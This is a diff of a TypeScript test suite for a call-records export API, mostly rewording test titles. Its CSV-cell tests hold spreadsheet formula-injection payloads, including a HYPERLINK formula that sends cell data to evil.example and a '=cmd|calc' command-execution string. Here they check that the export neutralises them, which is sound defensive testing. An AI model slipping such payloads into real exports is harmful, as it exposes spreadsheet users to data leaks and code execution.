@@ -1,4 +1,4 @@
-/** Call records for those who account for them: all projects, as a table, as lines and in pages; and what no cell may be. */
+/** Call records for accounting: all projects, as CSV, JSON lines and pages; and formula-safe cells. */
 import { mkdtempSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -33,7 +33,7 @@ async function withCalls() {
 }
 
 describe('the calls of all projects', () => {
-  it('are a table: a line of names, then a line of each call, the newest first', async () => {
+  it('returns CSV: a header, then a row for each call, newest first', async () => {
     const { rig, shop, other } = await withCalls();
     const answer = await fetchAs(rig, 'text/csv');
     expect([answer.status, answer.headers.get('content-type'), answer.headers.get('content-disposition')]).toEqual([
@@ -48,7 +48,7 @@ describe('the calls of all projects', () => {
     });
   });
 
-  it('are lines of JSON, with what the columns leave out', async () => {
+  it('returns JSON lines, with fields that CSV leaves out', async () => {
     const { rig, shop, other } = await withCalls();
     const answer = await fetchAs(rig, 'application/x-ndjson');
     const lines = (await answer.text()).split('\n');
@@ -57,7 +57,7 @@ describe('the calls of all projects', () => {
     expect(await (await fetchAs(rig, '*/*', '?format=ndjson')).text()).toBe(`${lines.join('\n')}\n`);
   });
 
-  it('are pages of JSON, filtered by project, time and any number that took part', async () => {
+  it('returns JSON pages, filtered by project, time and any participating number', async () => {
     const { rig, admin, shop, other } = await withCalls();
     const ids = async (query: string) => idsIn(await admin('GET', `/calls${query}`));
     const first = await admin('GET', '/calls?limit=1');
@@ -85,7 +85,7 @@ describe('the calls of all projects', () => {
   });
 
   it.each(['?cursor=x', '?since=yesterday', '?limit=0', '?format=pdf', '?project[]=1', '?to=1'])(
-    'refuse %s with a hint',
+    'rejects %s with a hint',
     async (query) => {
       const { admin } = await administered();
       const { status, body } = await admin('GET', `/calls${query}`);
@@ -93,7 +93,7 @@ describe('the calls of all projects', () => {
     },
   );
 
-  it('have route, gateway, status and Call-ID of telephones, also of the party of a bridge', async () => {
+  it('includes route, gateway, SIP status and Call-ID, also of the bridged party', async () => {
     const store = createMemoryStore();
     const sip = {
       callId: 'abc@host',
@@ -123,7 +123,7 @@ describe('the calls of all projects', () => {
   });
 });
 
-describe('cells', () => {
+describe('CSV cells', () => {
   it.each([
     ['=1+1', "'=1+1"],
     ['@SUM(A1)', "'@SUM(A1)"],
@@ -142,7 +142,7 @@ describe('cells', () => {
     expect(csvLine([text])).toBe(cell);
   });
 
-  it('of what callers and clients have written compute nothing', async () => {
+  it('neutralises formulas in text of callers and clients', async () => {
     const { rig } = await administered();
     await rig.dial({ owner_ref: '=HYPERLINK("http://evil.example/?"&A1,"open")' });
     rig.call('1000', '=cmd|calc');
@@ -153,7 +153,7 @@ describe('cells', () => {
   });
 });
 
-describe('a hundred thousand calls', () => {
+describe('an export of 100,000 calls', () => {
   const COUNT = 100_000;
 
   async function filled(): Promise<{ rig: ApiRig; admin: Administrator; largest: () => number }> {
@@ -182,7 +182,7 @@ describe('a hundred thousand calls', () => {
     return { rig, admin, largest: () => largest };
   }
 
-  it('leave in small pages, as fast as they are taken, in memory that does not grow with them', async () => {
+  it('streams in small pages at the speed of the reader, with constant memory', async () => {
     const { rig, admin, largest } = await filled();
     const before = process.memoryUsage();
     const answer = await fetchAs(rig, 'text/csv');
@@ -195,7 +195,7 @@ describe('a hundred thousand calls', () => {
       lines += found.length;
       const { heapUsed, external } = process.memoryUsage();
       peak = Math.max(peak, heapUsed + external - before.heapUsed - before.external);
-      // Somebody else asks meanwhile, and is answered meanwhile.
+      // Another client sends requests during the export and gets its answers during it.
       if (others < 5 && lines > others * 10_000) {
         expect((await admin('GET', '/drain')).status).toBe(200);
         others += 1;
